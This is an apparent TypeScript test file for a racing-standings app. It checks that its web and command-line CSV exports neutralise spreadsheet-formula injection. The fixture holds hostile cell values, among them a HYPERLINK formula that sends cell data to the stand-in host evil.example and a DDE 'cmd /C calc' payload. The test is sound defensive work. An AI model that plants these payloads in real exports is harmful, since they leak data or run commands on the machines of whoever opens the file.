/**
 * A season whose names begin like spreadsheet formulas, through both doors its CSV leaves by:
 * `GET …/standings.csv` and `pitwall standings --format csv`. Every such name arrives as text.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Office } from '../src/app/office.ts';
import { openOffice } from '../src/app/office.ts';
import { createHttpApp } from '../src/http/app.ts';
import { openTestDatabase } from './support/database.ts';

const HOSTILE = `format: pitwall-season/1
id: formula-cup
series: Formula Cup
season: '2024'
points: { positions: [25, 18] }
classes: ['=Pro']
rounds: [{ round: 1, name: '@Round' }]
entries:
  - car: '1'
    class: '=Pro'
    team: '=HYPERLINK("http://evil.example/?"&A1, "click")'
    drivers: [{ name: '+cmd|'' /C calc''!A0', rounds: all }]
  - car: '2'
    class: '=Pro'
    team: '-2+3+cmd'
    drivers: [{ name: '@SUM(1+1)', rounds: all }]
races:
  - round: 1
    classification: [{ car: '1' }, { car: '2' }]
`;

const EXPECTED_TEAMS = [
  ['1', '\'=HYPERLINK("http://evil.example/?"&A1, "click")', '25'],
  ['2', "'-2+3+cmd", '18'],
];
const EXPECTED_DRIVERS = ["'+cmd|' /C calc'!A0", "'@SUM(1+1)"];

function assertNeutralised(csv: string): void {
  const records = parse<Record<string, string>>(csv, { columns: true });
  assert.deepEqual(
    records.filter((r) => r.kind === 'teams').map((r) => [r.car, r.team, r.points]),
    EXPECTED_TEAMS,
  );
  assert.deepEqual(
    records.filter((r) => r.kind === 'drivers').map((r) => r.driver),
    EXPECTED_DRIVERS,
  );
  assert.ok(records.every((r) => r.class === "'=Pro"));
}

let office: Office;
let dir: string;
before(async () => {
  office = await openOffice(await openTestDatabase());
  const imported = await office.importSeasonFile(HOSTILE, 'formula-cup.yaml');
  assert.ok(imported.ok, JSON.stringify(imported));
  dir = mkdtempSync(join(tmpdir(), 'pitwall-csv-'));
});
after(async () => {
  await office.close();
  rmSync(dir, { recursive: true, force: true });
});

test('GET /api/v1/seasons/{id}/standings.csv writes formula-like names as text', async () => {
  const response = await createHttpApp(office).request('/api/v1/seasons/formula-cup/standings.csv');
  assert.equal(response.status, 200);
  assertNeutralised(await response.text());
});

test('pitwall standings --format csv writes formula-like names as text', () => {
  const file = join(dir, 'formula-cup.yaml');
  writeFileSync(file, HOSTILE);
  const bin = new URL('../bin/pitwall.js', import.meta.url).pathname;
  assertNeutralised(execFileSync(process.execPath, [bin, 'standings', file, '--format', 'csv'], { encoding: 'utf8' }));
});
